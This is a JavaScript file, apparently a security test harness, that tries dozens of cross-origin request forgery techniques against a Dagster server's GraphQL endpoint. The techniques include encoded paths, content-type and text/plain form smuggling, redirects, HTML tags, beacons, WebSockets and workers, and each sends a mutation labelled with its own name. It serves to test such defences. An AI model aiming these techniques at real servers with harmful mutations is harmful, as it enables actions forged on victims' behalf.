// What a page of another origin can send to Dagster's server. Every attempt carries the same
// mutation, with its own name as the description of the event that it would leave.

const ASSET = "unrelated_number";
const PATHS = [
  "/graphql/", "//graphql", "/%67raphql", "/%2567raphql", "/graphql%0A", "/graphql%00",
  "/graphql%2F", "/GRAPHQL", "/graphql;x", "/x/../graphql", "/x/%2e%2e/graphql", "\\graphql",
];
const TYPES = [
  "", "text/plain", "text/plain; application/json", "application/x-www-form-urlencoded",
  "multipart/form-data; boundary=application/json", "application/json", "application/graphql",
];
const OPTIONS = [
  {}, { keepalive: true }, { credentials: "include" }, { referrerPolicy: "no-referrer" },
  { headers: { Accept: "TEXT/HTML" } }, { headers: { Accept: "application/json" } },
];

function mutation(name) {
  const event = `eventType: ASSET_MATERIALIZATION, assetKey: {path: ["${ASSET}"]}`;
  const params = `${event}, description: ${JSON.stringify(name)}`;
  return `mutation { reportRunlessAssetEvents(eventParams: {${params}}) { __typename } }`;
}

const query = (name) => `query=${encodeURIComponent(mutation(name))}`;
const body = (name) => JSON.stringify({ query: mutation(name) });
const pause = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));
const tag = (kind, attributes) => Object.assign(document.createElement(kind), attributes);

function loaded(element) {
  return new Promise((resolve) => {
    element.onload = element.onerror = element.onloadeddata = resolve;
    document.body.append(element);
  });
}

function* fetches(server) {
  const graphql = `${server}/graphql`, address = (name) => `${graphql}?${query(name)}`;
  for (const mode of ["no-cors", "cors"]) {
    for (const method of ["GET", "HEAD", "POST"])
      for (const options of OPTIONS)
        yield [`${method} ${mode} ${JSON.stringify(options)}`, (name) =>
          fetch(address(name), { mode, method, ...options })];
    for (const type of TYPES)
      for (const content of [body, mutation])
        yield [`POST ${mode} ${type} ${content.name}`, (name) => {
          const headers = type ? { "Content-Type": type } : {};
          return fetch(graphql, { mode, method: "POST", headers, body: content(name) });
        }];
    for (const kind of ["materialization", "observation"])
      yield [`POST ${mode} ${kind}`, (name) =>
        fetch(`${server}/report_asset_${kind}/${ASSET}?description=${encodeURIComponent(name)}`,
          { mode, method: "POST" })];
    for (const method of ["GET", "POST"])
      for (const status of [301, 302, 307, 308])
        yield [`${method} ${mode} redirected by ${status}`, (name) =>
          fetch(`/redirect?status=${status}&to=${encodeURIComponent(address(name))}`,
            { mode, method })];
  }
  for (const method of ["PUT", "PATCH", "DELETE", "OPTIONS"])
    yield [`${method} cors`, (name) => fetch(address(name), { method, mode: "cors" })];
  for (const path of PATHS)
    yield [`path ${path}`, (name) => fetch(`${server}${path}?${query(name)}`, { mode: "no-cors" })];
  for (const start of ["query=%7Bversion%7D&", "%71uery=x&", ";", "?"])
    yield [`query after ${start}`, (name) =>
      fetch(`${graphql}?${start}${query(name)}`, { mode: "no-cors" })];
}

function* tags(server) {
  const address = (name) => `${server}/graphql?${query(name)}`;
  for (const kind of ["img", "script", "iframe", "embed", "video", "audio"])
    yield [`tag ${kind}`, (name) => loaded(tag(kind, { src: address(name) }))];
  yield ["tag object", (name) => loaded(tag("object", { data: address(name) }))];
  yield ["tag input", (name) => loaded(tag("input", { type: "image", src: address(name) }))];
  for (const rel of ["stylesheet", "prefetch", "preload", "modulepreload", "icon", "manifest"])
    yield [`tag link ${rel}`, (name) =>
      Promise.race([loaded(tag("link", { rel, as: "script", href: address(name) })), pause(200)])];
  yield ["style import", (name) =>
    loaded(tag("style", { textContent: `@import url("${address(name)}");` }))];
  yield ["ping of a link", (name) => {
    const link = tag("a", { href: "#", ping: address(name) });
    document.body.append(link);
    link.click();
    return pause(200);
  }];
  yield ["frame without an origin", (name) => {
    const script = `fetch(${JSON.stringify(address(name))}, {mode: "no-cors", method: "POST"})`;
    const srcdoc = `<script>${script}</scr` + "ipt>";
    return loaded(tag("iframe", { sandbox: "allow-scripts", srcdoc })).then(() => pause(200));
  }];
}

function formOf(server, name, enctype, target) {
  const [key, value] = {
    "application/x-www-form-urlencoded": ["query", mutation(name)],
    "multipart/form-data": ["query", mutation(name)],
    // With "=" between name and value, the body is a JSON object.
    "text/plain": [body(name).replace(/}$/, ', "x": "'), '"}'],
  }[enctype];
  const form = tag("form", { action: `${server}/graphql?${query(name)}`, enctype, target });
  form.append(tag("textarea", { name: key, value }));
  document.body.append(form);
  return form;
}

function* forms(server) {
  for (const enctype of ["application/x-www-form-urlencoded", "multipart/form-data", "text/plain"])
    for (const method of ["GET", "POST"])
      yield [`form ${method} ${enctype}`, (name) => {
        const frame = tag("iframe", { name });
        document.body.append(frame);
        const answered = new Promise((resolve) => { frame.onload = resolve; });
        Object.assign(formOf(server, name, enctype, name), { method }).submit();
        return answered;
      }];
}

function* others(server) {
  const graphql = `${server}/graphql`, address = (name) => `${graphql}?${query(name)}`;
  for (const type of ["text/plain;application/json", "application/json"])
    yield [`beacon ${type}`, (name) => {
      navigator.sendBeacon(address(name), new Blob([body(name)], { type }));
    }];
  yield ["EventSource", (name) => new Promise((resolve) => {
    const source = new EventSource(address(name));
    source.onerror = () => { source.close(); resolve(); };
  })];
  yield ["WebSocket", (name) => new Promise((resolve) => {
    const socket = new WebSocket(address(name).replace("http", "ws"), "graphql-ws");
    socket.onopen = () => {
      socket.send(JSON.stringify({ type: "connection_init" }));
      socket.send(JSON.stringify({ type: "start", id: "1", payload: { query: mutation(name) } }));
    };
    socket.onmessage = (message) => { if (JSON.parse(message.data).id) socket.close(); };
    socket.onclose = resolve;
  })];
  yield ["script of a worker", (name) => new Promise((resolve) => {
    const code = `try { importScripts(${JSON.stringify(address(name))}) } catch {} postMessage(0)`;
    const worker = new Worker(URL.createObjectURL(new Blob([code])));
    worker.onmessage = worker.onerror = resolve;
  })];
}

async function attack(server) {
  const attempts = [fetches, tags, forms, others].flatMap((kind) => [...kind(server)]);
  const names = attempts.map(([what]) => `${what} from ${location.origin}`);
  await Promise.all(attempts.map(([, start], i) =>
    Promise.race([pause(10_000), Promise.resolve().then(() => start(names[i])).catch(() => {})])));
  return names;
}

function followLink(server) {
  location = `${server}/graphql?${query(`link from ${location.origin}`)}`;
}

function submitForm(server) {
  const form = formOf(server, `form from ${location.origin}`, "text/plain", "");
  Object.assign(form, { method: "POST" }).submit();
}

function report(name) {
  const headers = { "Content-Type": "application/json" };
  return fetch("/graphql", { method: "POST", headers, body: body(name) });
}
